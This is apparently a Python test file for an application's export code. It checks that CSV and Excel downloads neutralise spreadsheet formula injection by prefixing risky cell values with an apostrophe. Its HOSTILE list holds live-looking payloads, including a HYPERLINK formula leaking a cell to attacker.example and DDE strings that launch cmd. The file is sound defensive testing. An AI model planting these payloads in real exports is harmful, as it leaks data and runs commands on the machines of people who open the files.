"""A device names an application "=HYPERLINK(...)": no download a person opens runs it."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd

from app.views import csv_bytes, excel_bytes
from services.cells import neutralise
from services.rights.export_formats import to_csv

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A2,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]
HARMLESS = ["Firefox", "-12%", "+2.5", "-3", "mail@example.com"]


def test_text_a_spreadsheet_would_run_gets_an_apostrophe_and_nothing_else_changes() -> None:
    assert [neutralise(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert [neutralise(v) for v in HARMLESS] == HARMLESS
    assert neutralise(-3) == -3 and neutralise(None) is None


def _frame() -> pd.DataFrame:
    names = HOSTILE + HARMLESS
    return pd.DataFrame({"application": names, "hours": [str(i) for i in range(len(names))]})


def test_the_workbench_csv_download_holds_no_formula() -> None:
    rows = list(csv.reader(io.StringIO(csv_bytes(_frame()).decode())))
    shown = [row[0] for row in rows[1:]]
    assert shown[: len(HOSTILE)] == ["'" + v for v in HOSTILE]
    assert shown[len(HOSTILE) :] == HARMLESS


def test_the_workbench_excel_download_holds_no_formula_and_numbers_stay_numbers() -> None:
    book = openpyxl.load_workbook(io.BytesIO(excel_bytes(_frame(), "applications")))
    cells = [cell for row in book.active.iter_rows(min_row=2) for cell in row]
    assert cells and not [c.value for c in cells if c.data_type == "f"]
    names = [row[0].value for row in book.active.iter_rows(min_row=2)]
    assert names[0] == "'" + HOSTILE[0]
    assert [row[1].value for row in book.active.iter_rows(min_row=2)][:3] == [0, 1, 2]


def test_the_rights_export_csv_holds_no_formula() -> None:
    rows = [{"app": name, "seconds": 60} for name in HOSTILE + HARMLESS]
    read = list(csv.DictReader(io.StringIO(to_csv(rows).decode())))
    assert [r["app"] for r in read] == ["'" + v for v in HOSTILE] + HARMLESS
